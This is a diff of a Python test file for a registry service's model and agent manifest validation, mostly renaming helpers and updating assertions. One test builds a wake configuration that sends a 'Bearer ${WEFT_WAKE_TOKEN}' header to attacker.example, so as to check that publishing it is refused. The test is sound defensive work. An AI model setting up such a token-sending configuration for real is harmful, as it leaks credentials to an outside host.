@@ -3,18 +3,18 @@
 import json
 import math
 from collections.abc import Callable
-from dataclasses import replace
 
 import pytest
 from google.protobuf.duration_pb2 import Duration
+from kit.messages import changed
 
-from registry_svc.mesh.domain import AgentBehaviour
-from registry_svc.mesh.manifests import agent_manifest_message, manifest_message, to_agent, to_manifest
-from registry_svc.mesh.policy.limits import agent_bytes
+from registry_svc.mesh.manifests import valid_agent, valid_model
+from registry_svc.mesh.records import manifest_bytes
+from registry_svc.mesh.rows import declared_agent_row
 from weft.api.common.v1 import agent_behaviour_pb2
 from weft.api.registry.v1 import agent_pb2, model_pb2, wake_pb2
 from weft.kernel.errors import FieldError
-from weft.kernel.request import Skill
+from weft.wake.plans import max_wait_seconds
 from weft.wake.recipes import DEFAULT_MAX_WAIT_SECONDS
 
 SECRET = "hunter2"
@@ -51,11 +51,11 @@ def model(wake: Wake) -> model_pb2.ModelManifest:
     ],
 )
 def test_a_good_plan_arrives_whole_and_goes_out_as_it_came(wake: Wake) -> None:
-    manifest = to_manifest(model(wake), "m", published=False)
-    again = to_manifest(manifest_message(manifest), "m", published=False)
+    manifest = valid_model(model(wake), "m", published=False)
+    again = valid_model(changed(manifest), "m", published=False)
     assert manifest == again
-    assert manifest.wake is not None
-    assert manifest.wake.max_wait_seconds in {1.0, DEFAULT_MAX_WAIT_SECONDS}
+    assert manifest.HasField("wake")
+    assert max_wait_seconds(manifest.wake) in {1.0, DEFAULT_MAX_WAIT_SECONDS}
 
 
 @pytest.mark.parametrize(
@@ -99,24 +99,24 @@ def test_a_good_plan_arrives_whole_and_goes_out_as_it_came(wake: Wake) -> None:
 )
 def test_a_bad_plan_is_refused_by_its_path_without_repeating_it(wake: Wake, field: str) -> None:
     with pytest.raises(FieldError) as refusal:
-        to_manifest(model(wake), "m", published=False)
+        valid_model(model(wake), "m", published=False)
     assert refusal.value.field == field
     assert SECRET not in str(refusal.value)
 
 
 def test_a_runner_may_publish_packets_and_requests_but_no_programs() -> None:
     for wake in (http(), lan(), Wake(by_runner=True)):
-        assert to_manifest(model(wake), "m", published=True).wake is not None
+        assert valid_model(model(wake), "m", published=True).HasField("wake")
     with pytest.raises(FieldError) as refusal:
-        to_manifest(model(command("/bin/true")), "m", published=True)
+        valid_model(model(command("/bin/true")), "m", published=True)
     assert refusal.value.field == "m.wake.by_mesh.command"
 
 
 def test_a_runner_may_not_have_routers_send_their_secrets_somewhere() -> None:
     wake = http("http://attacker.example/", **{"X-Plain": "as it is", "X-Key": "Bearer ${WEFT_WAKE_TOKEN}"})
-    assert to_manifest(model(wake), "m", published=False).wake is not None
+    assert valid_model(model(wake), "m", published=False).HasField("wake")
     with pytest.raises(FieldError) as refusal:
-        to_manifest(model(wake), "m", published=True)
+        valid_model(model(wake), "m", published=True)
     assert refusal.value.field == "m.wake.by_mesh.http.headers"
     assert "WEFT_WAKE_TOKEN" not in str(refusal.value)
 
@@ -139,12 +139,12 @@ def an_agent() -> agent_pb2.AgentManifest:
 
 
 def test_a_good_agent_arrives_whole_and_goes_out_as_it_came() -> None:
-    manifest = to_agent(an_agent(), "a")
-    assert agent_manifest_message(manifest) == an_agent()
-    document = json.loads(manifest.default_params)
+    manifest = valid_agent(an_agent(), "a")
+    assert manifest == an_agent()
+    document = json.loads(declared_agent_row(agent_pb2.Agent(manifest=manifest))["default_params"])
     assert list(document) == sorted(document)
     assert document["temperature"] == 0.25
-    bare = agent_manifest_message(to_agent(agent_pb2.AgentManifest(name="a", pool="p"), "a"))
+    bare = valid_agent(agent_pb2.AgentManifest(name="a", pool="p"), "a")
     assert not bare.HasField("default_params")
     assert not bare.HasField("behaviour")
 
@@ -158,21 +158,21 @@ def test_a_good_agent_arrives_whole_and_goes_out_as_it_came() -> None:
 )
 def test_asking_for_what_is_so_anyway_is_asking_for_nothing(behaviour: agent_behaviour_pb2.AgentBehaviour) -> None:
     asking = agent_pb2.AgentManifest(name="a", pool="p", behaviour=behaviour)
-    assert to_agent(asking, "a") == to_agent(agent_pb2.AgentManifest(name="a", pool="p"), "a")
+    assert valid_agent(asking, "a") == valid_agent(agent_pb2.AgentManifest(name="a", pool="p"), "a")
 
 
 def test_everything_an_agent_asks_for_counts_as_a_difference() -> None:
     for descriptor, _ in an_agent().behaviour.ListFields():
         less = an_agent()
         less.behaviour.ClearField(descriptor.name)  # type: ignore[arg-type]  # it is one of its fields
-        assert to_agent(less, "a") != to_agent(an_agent(), "a"), descriptor.name
-        assert agent_manifest_message(to_agent(less, "a")) == less
+        assert valid_agent(less, "a") != valid_agent(an_agent(), "a"), descriptor.name
+        assert valid_agent(changed(less), "a") == less
     assert len(an_agent().behaviour.ListFields()) == len(agent_behaviour_pb2.AgentBehaviour.DESCRIPTOR.fields)
 
 
 def test_what_an_agent_asks_for_counts_towards_the_size_of_the_mesh() -> None:
-    asking = to_agent(an_agent(), "a")
-    assert agent_bytes(asking) - agent_bytes(replace(asking, behaviour=AgentBehaviour())) == len(
+    asking = valid_agent(an_agent(), "a")
+    assert manifest_bytes(asking) - manifest_bytes(changed(asking, behaviour=None)) == len(
         "files.readsearchNEEDS_EXTERNAL_INFOA"
     )
 
@@ -244,7 +244,7 @@ def test_an_agent_with_one_bad_value_is_refused_by_its_path(
     manifest = an_agent()
     change(manifest)
     with pytest.raises(FieldError) as refusal:
-        to_agent(manifest, "a")
+        valid_agent(manifest, "a")
     assert refusal.value.field == field
 
 
@@ -252,10 +252,9 @@ def test_skills_arrive_once_each_in_order_and_go_out_again() -> None:
     given = [model_pb2.MODEL_SKILL_TOOLS, model_pb2.MODEL_SKILL_TEXT, model_pb2.MODEL_SKILL_TOOLS]
     message = model(Wake(by_runner=True))
     message.skills.extend(given)
-    manifest = to_manifest(message, "m", published=True)
-    assert manifest.skills == (Skill.TEXT, Skill.TOOLS)
-    assert list(manifest_message(manifest).skills) == [model_pb2.MODEL_SKILL_TEXT, model_pb2.MODEL_SKILL_TOOLS]
-    assert to_manifest(model(Wake(by_runner=True)), "m", published=True).skills == ()
+    manifest = valid_model(message, "m", published=True)
+    assert list(manifest.skills) == [model_pb2.MODEL_SKILL_TEXT, model_pb2.MODEL_SKILL_TOOLS]
+    assert valid_model(model(Wake(by_runner=True)), "m", published=True).skills == []
 
 
 @pytest.mark.parametrize("number", [0, 5, -1])
@@ -263,5 +262,5 @@ def test_a_skill_that_nobody_knows_is_refused(number: int) -> None:
     message = model(Wake(by_runner=True))
     message.skills.append(model_pb2.ModelSkill.ValueType(number))
     with pytest.raises(FieldError) as refusal:
-        to_manifest(message, "models[0]", published=True)
+        valid_model(message, "models[0]", published=True)
     assert refusal.value.field == "models[0].skills"
